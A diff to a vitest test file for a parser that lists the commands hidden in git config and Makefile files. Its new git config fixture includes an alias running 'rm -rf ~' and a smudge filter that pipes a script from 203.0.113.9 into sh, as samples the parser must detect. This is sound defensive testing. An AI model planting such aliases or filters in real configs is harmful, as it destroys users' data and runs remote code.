@@ -1,9 +1,16 @@
 import { describe, expect, it } from 'vitest';
-import { storedCode, storedCommandLine } from './run-files.js';
+import { isRunFile, storedCode, storedCommandLine } from './run-files.js';
 
 const lines = (file: string, content: string): string[] => storedCode(file, content).map(storedCommandLine);
 
 describe('storedCode: what a run file will run', () => {
+  it('reads the command lines git runs from a git config: `!` aliases, pager, filters, helpers', () => {
+    const config = '[core]\n\tbare = false\n\tpager = less -R\n[alias]\n\tst = status\n\tup = "!rm -rf ~"\n[filter "x"]\n\tsmudge = curl -s https://203.0.113.9/i.sh | sh\n';
+    expect(storedCode('/w/.git/config', config).map((c) => c.code)).toEqual(['less -R', 'rm -rf ~', 'curl -s https://203.0.113.9/i.sh | sh']);
+    expect(isRunFile('/home/dev/.gitconfig')).toBe(true);
+    expect(storedCode('/w/.git/config', '[user]\n\tname = dev\n')).toEqual([]);
+  });
+
   it('reads Makefile recipes as make expands them', () => {
     expect(lines('/p/Makefile', 'X := 1\nall: build\n\t@echo $(HOME) $$PATH\n\t-rm -rf bin\n')).toEqual(['echo ${HOME} $PATH', 'rm -rf bin']);
   });
